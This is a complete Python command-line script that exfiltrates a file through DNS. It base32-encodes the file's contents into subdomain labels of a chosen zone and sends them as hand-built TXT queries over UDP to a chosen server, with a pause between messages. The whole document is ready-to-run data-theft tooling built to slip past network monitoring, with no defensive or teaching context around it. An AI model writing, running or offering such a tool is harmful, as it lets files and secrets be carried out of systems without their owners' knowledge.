#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Carries a file out in DNS messages of its own making.

    query.py ZONE SERVER FILE
"""

import base64
import os
import socket
import struct
import sys
import time

BYTES_A_NAME = 28
MESSAGES_MAX = 70


def query(txid, name):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack(">6H", txid, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 16, 1)


def main(argv):
    zone, server, file = argv[1:]
    with open(file, "rb") as f:
        data = f.read(BYTES_A_NAME * MESSAGES_MAX)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    for i in range(0, len(data), BYTES_A_NAME):
        part = base64.b32encode(data[i:i + BYTES_A_NAME]).decode().rstrip("=").lower()
        txid = int.from_bytes(os.urandom(2), "big")
        s.sendto(query(txid, f"{part}.{zone}"), (server, 53))
        try:
            s.recv(4096)
        except TimeoutError:
            pass
        time.sleep(0.4)


main(sys.argv)
